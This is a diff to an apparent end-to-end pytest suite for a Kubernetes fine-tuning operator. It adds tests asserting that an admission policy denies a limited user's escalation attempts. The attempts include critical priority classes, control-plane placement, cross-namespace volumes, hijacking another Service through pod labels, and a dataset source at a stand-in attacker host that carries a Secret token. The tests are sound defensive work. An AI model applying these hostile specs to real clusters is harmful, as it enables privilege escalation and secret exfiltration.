@@ -1,6 +1,7 @@
 """Attacks by users with real RBAC rights, each with the number of its finding."""
 
 import json
+from typing import Any
 
 import pytest
 from tests.e2e import locks, metrics, pods
@@ -16,12 +17,12 @@ LOCKS: dict[str, locks.How] = {locks.OPERATOR: "shared"}
 pytestmark = pytest.mark.timeout(300)
 
 AUTHOR = "job-author"
-"""A user who can write FineTuneJobs in one namespace, and has no other permission."""
+"""A user who can write FineTuneJobs in one namespace."""
 SECONDS = 180.0
 
 
-def admit(cluster: Cluster, namespace: str) -> None:
-    """Bind the role of the job author in a namespace."""
+def admit(cluster: Cluster, namespace: str, *rules: dict[str, Any]) -> None:
+    """Bind the role of the job author, with further rules, in a namespace."""
     rbac, name = "rbac.authorization.k8s.io", {"name": AUTHOR, "namespace": namespace}
     cluster.kubectl.apply(
         {
@@ -33,7 +34,8 @@ def admit(cluster: Cluster, namespace: str) -> None:
                     "apiGroups": ["finetune.dev"],
                     "resources": ["finetunejobs"],
                     "verbs": ["get", "list", "watch", "create", "update", "patch", "delete"],
-                }
+                },
+                *rules,
             ],
         },
         {
@@ -51,7 +53,9 @@ def test_private_key_as_a_token_is_not_published(
     cluster: Cluster, tuning: Tuning, workspace: str
 ) -> None:
     kubectl, key = cluster.kubectl, UNUSABLE["PEM"]
-    admit(cluster, workspace)
+    # Without this permission, the admission policy rejects the reference.
+    use = {"apiGroups": [""], "resources": ["secrets"], "verbs": ["use"]}
+    admit(cluster, workspace, {**use, "resourceNames": ["payroll"]})
     kubectl.apply(
         {
             "apiVersion": "v1",
@@ -108,3 +112,88 @@ def test_tenant_reads_no_metric_of_the_operator(cluster: Cluster, workspace: str
     tenant = cluster.kubectl.run("create", "token", *account).strip()
     assert [metrics.get(host, token)[0] for token in ("", tenant)] == [401, 403]
     assert "finetune_jobs" in metrics.scrape(cluster, host)
+
+
+def submit(cluster: Cluster, tuning: Tuning, spec: dict[str, Any]) -> str:
+    """Create a job as the job author; return the text of the rejection, or an empty text."""
+    job = {
+        "apiVersion": "finetune.dev/v1alpha1",
+        "kind": "FineTuneJob",
+        "metadata": {"name": tuning.name, "namespace": tuning.namespace},
+        "spec": spec,
+    }
+    options = ("create", f"--as={AUTHOR}", "-f", "-")
+    done = cluster.kubectl.attempt(*options, stdin=json.dumps(job))
+    assert done.returncode == 0 or "denied request: spec." in done.stderr, done.stderr
+    return done.stderr if done.returncode else ""
+
+
+def slices(cluster: Cluster, namespace: str, service: str) -> list[dict[str, Any]]:
+    """Return the endpoints of a Service."""
+    selector = f"--selector=kubernetes.io/service-name={service}"
+    found = cluster.kubectl.run(
+        "get", "endpointslices", f"--namespace={namespace}", selector, "-o", "json"
+    )
+    return [each for part in json.loads(found)["items"] for each in part["endpoints"] or ()]
+
+
+@pytest.mark.finding(6, "a job reaches nodes, priorities, devices and Secrets")
+def test_a_job_author_reaches_nothing_beyond_the_policy(
+    cluster: Cluster, tuning: Tuning, workspace: str
+) -> None:
+    admit(cluster, workspace)
+    kubectl = cluster.kubectl
+    secret = {"apiVersion": "v1", "kind": "Secret", "stringData": {"token": "s3cret"}}
+    kubectl.apply({**secret, "metadata": {"name": "payroll", "namespace": workspace}})
+    attacks: dict[str, dict[str, Any]] = {
+        "spec.priorityClassName": {"priorityClassName": "system-node-critical"},
+        "spec.placement.tolerations": {"placement": {"tolerations": [{"operator": "Exists"}]}},
+        "spec.placement.nodeSelector": {
+            "placement": {"nodeSelector": {"node-role.kubernetes.io/control-plane": ""}}
+        },
+        "spec.resources.prepare": {
+            "resources": {"prepare": {"limits": {"nvidia.com/mig-3g.40gb": "7"}}}
+        },
+        "spec.dataset.tokenSecretRef": {
+            "dataset": {
+                "source": "https://attacker.example/rows.jsonl",
+                "sha256": "0" * 64,
+                "tokenSecretRef": {"name": "payroll"},
+            }
+        },
+        "spec.access.serviceAccountName": {"access": {"serviceAccountName": "default"}},
+        "spec.model.source": {"model": {"source": "pvc://payroll/models"}},
+    }
+    for field, change in attacks.items():
+        assert f"denied request: {field}: " in submit(cluster, tuning, small(**change)), field
+    left = kubectl.run("get", "ftj,jobs,pods", f"--namespace={workspace}", "-o", "name")
+    assert left.split() == []
+
+
+@pytest.mark.finding(7, "the pods of a job join other workloads")
+def test_no_pod_of_a_job_joins_another_service(
+    cluster: Cluster, tuning: Tuning, workspace: str
+) -> None:
+    admit(cluster, workspace)
+    service = {"selector": {"app": "payments"}, "ports": [{"port": 80, "targetPort": 9400}]}
+    cluster.kubectl.apply(
+        {
+            "apiVersion": "v1",
+            "kind": "Service",
+            "metadata": {"name": "payments", "namespace": workspace},
+            "spec": service,
+        }
+    )
+    hostile = small(podMetadata={"labels": {"app": "payments"}})
+    assert "denied request: spec.podMetadata.labels: " in submit(cluster, tuning, hostile)
+    own = small(podMetadata={"labels": {"example.com/app": "payments"}})
+    assert submit(cluster, tuning, own) == ""
+    change = json.dumps({"spec": {"podMetadata": {"labels": {"app": "payments"}}}})
+    edit = ("patch", "ftj", tuning.name, f"--namespace={workspace}", f"--as={AUTHOR}")
+    done = cluster.kubectl.attempt(*edit, "--type=merge", f"--patch={change}")
+    assert "denied request: spec.podMetadata.labels: " in done.stderr
+    tuning.wait_until("DataReady", seconds=SECONDS)
+    (pod,) = tuning.pods("prepare")
+    assert pod["metadata"]["labels"]["example.com/app"] == "payments"
+    assert "app" not in pod["metadata"]["labels"]
+    assert slices(cluster, workspace, "payments") == []
